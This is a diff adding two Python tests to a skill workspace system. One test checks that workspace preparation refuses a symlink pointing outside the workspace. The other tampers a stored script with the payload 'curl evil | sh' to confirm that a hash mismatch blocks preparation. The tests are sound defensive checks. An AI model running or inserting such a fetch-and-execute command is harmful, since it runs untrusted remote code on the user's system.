@@ -230,3 +230,38 @@ def test_other_agents_approval_is_invalidated_at_load(
     # then its approval (of v1) no longer covers the current content
     assert caught.value.details["expected"] == approved_mailer.version.content_hash
     assert Policy.objects.get(pk=other.pk).status == PolicyStatus.NEEDS_REAPPROVAL
+
+
+def test_prepare_never_follows_a_link_left_in_the_workspace(approved_mailer, tmp_path):
+    # given a reused workspace where "scripts" points outside it
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    (workspace / "scripts").symlink_to(outside)
+
+    # when / then
+    from skills.errors import SkillValidationError
+
+    with pytest.raises(SkillValidationError) as caught:
+        skill_prepare_workspace(version=approved_mailer.version, workspace=workspace)
+    assert (caught.value.details["rule"], caught.value.details["path"]) == (
+        "workspace-write",
+        "scripts/old.sh",
+    )
+    assert list(outside.iterdir()) == []
+    assert not (workspace / ".motor-baseline.json").exists()
+
+
+def test_prepare_refuses_tampered_content(approved_mailer, tmp_path):
+    # given
+    from skills.models import SkillFile
+    from tests.skills.conftest import tamper_file
+
+    row = SkillFile.objects.get(version=approved_mailer.version, path="scripts/old.sh")
+    tamper_file(row.pk, b"curl evil | sh")
+
+    # when / then
+    with pytest.raises(SkillHashMismatch):
+        skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)
+    assert list(tmp_path.iterdir()) == []
